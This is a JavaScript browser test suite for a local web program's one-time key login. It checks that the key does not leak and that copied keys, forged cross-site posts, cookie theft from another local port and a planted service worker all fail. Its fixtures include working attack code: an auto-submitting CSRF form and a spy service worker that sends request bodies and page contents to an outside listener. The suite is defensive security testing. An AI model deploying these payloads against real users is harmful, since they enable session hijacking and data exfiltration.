/**
 * The key on its way to a browser: the file that the program writes is opened in a real one, as `xdg-open` does.
 *
 * In Chromium, and in Firefox where there is one.
 */

import assert from "node:assert/strict";
import { copyFileSync, existsSync } from "node:fs";
import { createServer, request } from "node:http";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { browser, firefox, fixture, handed, stranger } from "./site.mjs";

/** @typedef {import("puppeteer-core").Page} Page */
/** @typedef {Awaited<ReturnType<typeof handed>>} Handed */

/** @type {Map<string, import("puppeteer-core").Browser | undefined>} */
const browsers = new Map();

before(async () => {
  browsers.set("Chromium", await browser());
  browsers.set("Firefox", await firefox());
  browsers.set("Firefox without script", await firefox(false));
});

after(async () => {
  for (const each of browsers.values()) await each?.close();
});

/**
 * A test in each browser, with a program of its own and a browser's window that has no cookie yet.
 *
 * @param {string} name
 * @param {(page: Page, site: Handed) => Promise<void>} act
 * @param {string[]} kinds of browsers
 */
function inEach(name, act, kinds = ["Chromium", "Firefox"]) {
  for (const kind of kinds) {
    test(`${name} (${kind})`, async (context) => {
      const through = browsers.get(kind);
      if (!through) return context.skip("there is no Firefox");
      const site = await handed(fixture("healthy"));
      const window = await through.createBrowserContext();
      try {
        await act(await window.newPage(), site);
      } finally {
        await window.close();
        await site.stop();
      }
    });
  }
}

/** Waits for a page of the site. Returns its address. @param {Page} page @param {Handed} site */
async function arrived(page, site) {
  const isThere = (/** @type {string} */ wanted) => location.origin === wanted && document.title.includes("Summary");
  await page.waitForFunction(isThere, {}, site.origin);
  await page.waitForSelector("html[data-started]");
  return page.url();
}

/** Opens the file. It leaves by itself, which some browsers call a failure to load. @param {Page} page @param {string} file */
async function open(page, file) {
  await page.goto(pathToFileURL(file).href).catch(() => undefined);
}

/** @param {() => boolean} isSo */
async function until(isSo) {
  for (let turn = 0; turn < 500 && !isSo(); turn++) await new Promise((resolve) => setTimeout(resolve, 20));
  assert.ok(isSo());
}

inEach("the file lets the browser in by itself, and nothing keeps its key", async (page, site) => {
  /** @type {string[]} */
  const addresses = [];
  /** @type {string[]} */
  const referrers = [];
  page.on("request", (request) => {
    addresses.push(request.url());
    referrers.push(request.headers()["referer"] ?? "");
  });
  await open(page, site.file);
  const pages = await arrived(page, site);
  await until(() => !existsSync(site.file));
  assert.ok(!addresses.some((address) => address.includes(site.key)), addresses.join("\n"));
  assert.deepEqual(referrers.filter(Boolean), []);
  assert.equal(await page.evaluate(() => document.referrer), "");
  // The cookie holds: for the same page again, for another one, in another tab.
  assert.equal((await page.reload())?.status(), 200);
  const tab = await page.browserContext().newPage();
  assert.equal((await tab.goto(`${pages}gc`))?.status(), 200);
});

/** Presses the button of the file. Nothing here may run script in the page. @param {Page} page @param {Handed} site */
async function pressed(page, site) {
  /** @type {string[]} */
  const answers = [];
  page.on("response", (answer) => answers.push(`${answer.status()} ${answer.url()}`));
  await open(page, site.file);
  assert.equal(page.url(), pathToFileURL(site.file).href);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await until(() => page.url().startsWith(site.origin) && !page.url().endsWith("/enter") && !existsSync(site.file));
  await until(() => answers.includes(`200 ${page.url()}`));
}

const WITHOUT = "without script, the file has a button that lets the browser in";
inEach(
  WITHOUT,
  async (page, site) => {
    await page.setJavaScriptEnabled(false);
    await pressed(page, site);
  },
  ["Chromium"],
);
inEach(WITHOUT, pressed, ["Firefox without script"]);

inEach("a copy of the file lets nobody in a second time, and says what to do", async (page, site) => {
  const copy = `${site.file}.copy.html`;
  copyFileSync(site.file, copy);
  await open(page, site.file);
  const pages = await arrived(page, site);
  const thief = await page.browser().createBrowserContext();
  const stolen = await thief.newPage();
  await open(stolen, copy);
  await stolen.waitForFunction(() => document.title === "This key does not work any more");
  for (const address of [pages, `${site.origin}/`]) assert.equal((await stolen.goto(address))?.status(), 403);
  await thief.close();
  // The browser that is in stays so.
  await open(page, copy);
  await page.waitForFunction(() => document.title === "This key does not work any more");
  assert.equal((await page.goto(pages))?.status(), 200);
});

inEach("a page of another site that posts the very key gets nothing and does not use it up", async (page, site) => {
  const form = `<form method=post action="${site.origin}/enter"><input name=token value="${site.key}"></form>`;
  const evil = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end(`<!doctype html><title>evil</title>${form}<script>document.forms[0].submit()</script>`);
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", () => resolve(undefined)));
  const address = /** @type {import("node:net").AddressInfo} */ (evil.address());
  await page.goto(`http://127.0.0.1:${address.port}/`).catch(() => undefined);
  await page.waitForFunction(() => document.title === "This key does not work any more");
  assert.ok(existsSync(site.file));
  await open(page, site.file);
  await arrived(page, site);
  evil.close();
  evil.closeAllConnections();
});

/** What the pages answer to a program that has these cookies. @param {string} address @param {string} cookie */
function statusOf(address, cookie) {
  return new Promise((resolve, reject) => {
    const asked = request(address, { headers: { cookie } }, (answer) => resolve(answer.resume().statusCode));
    asked.on("error", reject).end();
  });
}

inEach("another port of this machine that the browser visits learns no cookie that opens the pages", async (page, site) => {
  await open(page, site.file);
  const pages = await arrived(page, site);
  // The addresses at which others listen are known to every user of the machine, as ours is.
  for (const host of new Set(["127.0.0.1", new URL(site.origin).hostname])) {
    // First a site that leads there, then a page there that goes on by itself: such a request has the strict cookies.
    const course = ["/", "/b", "/gc", "/enter", "/assets/", "/end"];
    const thief = await stranger(host, 0, (path) => {
      const next = course[course.indexOf(path) + 1] ?? "/end";
      const on = path === "/end" ? "" : `<meta http-equiv=refresh content="0;url=${next}">`;
      return ["text/html", `<!doctype html><title>${path.slice(1)}</title>${on}`];
    });
    const tab = await page.browserContext().newPage();
    await tab.goto(`${thief.origin}/`);
    await tab.waitForFunction(() => document.title === "end");
    const stolen = thief.received.map((each) => each.cookie ?? "").join("; ");
    assert.ok(!stolen.includes("casebook"), stolen);
    for (const address of [pages, `${site.origin}/`]) assert.equal(await statusOf(address, stolen), 403);
    thief.close();
  }
  // The one who may still can.
  assert.equal((await page.goto(`${pages}gc`))?.status(), 200);
});

const WORKER = `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith((async () => {
  const tell = (path, body) => fetch("SPY" + path, { method: "POST", mode: "no-cors", body }).catch(() => 0);
  const copy = event.request.clone();
  await tell("/asked", event.request.url + " " + (await copy.text().catch(() => "")));
  const answer = await fetch(event.request);
  if (event.request.mode === "navigate") tell("/read", await (await fetch("./gc")).text().catch(() => ""));
  return answer;
})()));`;

for (const kind of ["Chromium", "Firefox"]) {
  const name = "a service worker that another server left on the same port reads no page";
  test(`${name} (${kind})`, async (context) => {
    const through = browsers.get(kind);
    if (!through) return context.skip("there is no Firefox");
    const window = await through.createBrowserContext();
    const spy = await stranger("127.0.0.1", 0, () => ["text/plain", ""]);
    const register = `<!doctype html><script>navigator.serviceWorker.register("/sw.js")
      .then(() => navigator.serviceWorker.ready).then(() => document.title = "left")</script>`;
    const before = await stranger("127.0.0.1", 0, (path) =>
      path === "/sw.js" ? ["text/javascript", WORKER.replaceAll("SPY", spy.origin)] : ["text/html", register],
    );
    const page = await window.newPage();
    await page.goto(`${before.origin}/`);
    await page.waitForFunction(() => document.title === "left");
    before.close();
    const site = await handed(fixture("healthy"), ["--port", `${before.port}`]);
    try {
      await open(page, site.file);
      const isIn = await arrived(page, site).catch(() => undefined);
      assert.deepEqual(spy.received, []);
      assert.ok(isIn);
    } finally {
      spy.close();
      await window.close();
      await site.stop();
    }
  });
}
